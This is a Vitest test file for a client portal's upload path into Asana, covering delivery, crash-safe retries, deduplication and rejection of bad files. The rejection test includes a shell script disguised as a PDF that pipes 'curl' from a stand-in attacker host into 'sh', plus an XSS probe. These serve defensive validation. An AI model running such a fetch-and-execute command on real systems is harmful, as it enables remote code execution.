import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { TestApp } from '../../tests/support/create-test-app.js';
import { samplePdf, startAsanaUploadWorld, type AsanaUploadWorld } from '../../tests/support/start-asana-upload-world.js';
import type { AsanaEmulator } from '../../connectors/asana/emulator/start-asana-emulator.js';
import type { AsanaEmulatorStore } from '../../connectors/asana/emulator/asana-emulator-store.js';
import { attachmentsOf } from '../../connectors/asana/emulator/asana-stories-and-attachments.js';
import type { UploadDocumentInput, WriteOperation } from '../../src/connector-kit/connector.js';
import { createJobHandlers } from '../../src/jobs/create-job-handlers.js';
import { performPortalAction } from '../../src/outbox/perform-portal-action.js';
import { listClientActions } from '../../src/store/portal-actions/list-client-actions.js';

describe('client uploads: checked, then delivered to the project\'s conversation task in Asana through the outbox', () => {
  let world: AsanaUploadWorld;
  let emulator: AsanaEmulator;
  let store: AsanaEmulatorStore;
  let app: TestApp;
  let clientId: number;
  let projectRecordId: number;
  let session: AsanaUploadWorld['session'];
  let write: WriteOperation<UploadDocumentInput>;
  let originalPerform: WriteOperation<UploadDocumentInput>['perform'];
  const pdf = samplePdf();

  beforeEach(async () => {
    world = await startAsanaUploadWorld({ PORTAL_UPLOAD_MAX_BYTES: '10000' });
    ({ emulator, store, app, clientId, projectRecordId, session } = world);
    write = app.connectors.get('asana').writes!.uploadDocument!;
    originalPerform = write.perform;
  });
  afterEach(async () => {
    write.perform = originalPerform;
    await world.close();
  });

  const conversationTask = () => world.conversationTask();
  const formKey = () => world.formKey();
  const upload = (name: string, body: Buffer | string, options: { key?: string; csrf?: string } = {}) => world.upload(name, body, options);
  const staged = () => world.staged();

  it('delivers an accepted PDF once, as an attachment on the conversation task, and shows it pending then delivered', async () => {
    const sent = await upload('Signed brief.pdf', pdf);
    expect(sent.status).toBe(303);
    expect(sent.location).toBe(`/projects/${projectRecordId}?uploaded=1#documents`);
    const page = (await session.client.get(`/projects/${projectRecordId}?uploaded=1`)).text;
    expect(page).toContain('Thank you — your file is on its way to the team.');
    expect(page).toContain('Signed brief.pdf (2.0 KB), by Nancy Davolio: sending to your team');
    await app.jobs.startWorker(createJobHandlers(app));
    await app.jobs.drain();
    const attachments = attachmentsOf(store, conversationTask().gid);
    expect(attachments).toHaveLength(1);
    expect(String(attachments[0]!.name)).toMatch(/^Signed brief \(portal [0-9a-f]{10}\)\.pdf$/);
    expect(attachments[0]!.size).toBe(pdf.length);
    expect((await session.client.get(`/projects/${projectRecordId}`)).text).toContain('by Nancy Davolio: delivered');
    // Delivered: the staged copy is gone from the hub's disk.
    expect(staged()).toEqual([]);
  });

  it('uploads exactly once when the worker dies after Asana took the file and before the action is marked done', async () => {
    await upload('Signed brief.pdf', pdf);
    const [action] = (await listClientActions(app.store.db, clientId));
    write.perform = async (ctx, input) => {
      await originalPerform(ctx, input);
      throw new Error('worker killed after the upload');
    };
    await expect(performPortalAction(app, action!.id, { attempt: 1, maxAttempts: 5 })).rejects.toThrow('worker killed');
    write.perform = originalPerform;
    // The interrupted attempt's staged file is kept for the retry…
    expect(staged()).toHaveLength(1);
    await performPortalAction(app, action!.id, { attempt: 2, maxAttempts: 5 });
    expect(attachmentsOf(store, conversationTask().gid)).toHaveLength(1);
    // …which found the attachment by its marker, and removed it.
    expect(staged()).toEqual([]);
    expect((await listClientActions(app.store.db, clientId))[0]).toMatchObject({ status: 'done' });
  });

  it('refuses a file too large, a type not on the list, and a script disguised as a PDF, with a clear message, keeping nothing and sending nothing', async () => {
    const large = await upload('Huge.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000, 1)]));
    expect(large.status).toBe(413);
    expect(large.text).toContain('“Huge.pdf” is larger than 10 KB.');
    const exe = await upload('setup.exe', Buffer.from('MZ\x90\x00'));
    expect(exe.status).toBe(415);
    expect(exe.text).toContain('“setup.exe” is not a type the portal accepts. Send one of: PDF, PNG, JPG, JPEG, DOCX, XLSX, PPTX, TXT, CSV.');
    const script = await upload('invoice.pdf', '#!/bin/sh\ncurl https://evil.example | sh\n');
    expect(script.status).toBe(422);
    expect(script.text).toContain('“invoice.pdf” does not contain what a PDF should. It was not sent.');
    const html = await upload('notes.txt', '<html><script>alert(1)</script></html>');
    expect(html.status).toBe(422);
    const noCsrf = await upload('Signed brief.pdf', pdf, { csrf: 'forged' });
    expect(noCsrf.status).toBe(403);
    expect((await listClientActions(app.store.db, clientId))).toHaveLength(0);
    expect(staged()).toEqual([]);
    await app.jobs.startWorker(createJobHandlers(app));
    await app.jobs.drain();
    expect(emulator.requests.filter((r) => r.method === 'POST')).toHaveLength(0);
  });

  it('treats the same form sent twice as one upload', async () => {
    const key = await formKey();
    await upload('Signed brief.pdf', pdf, { key });
    await upload('Signed brief.pdf', pdf, { key });
    expect((await listClientActions(app.store.db, clientId))).toHaveLength(1);
    expect(staged()).toHaveLength(1);
  });
});
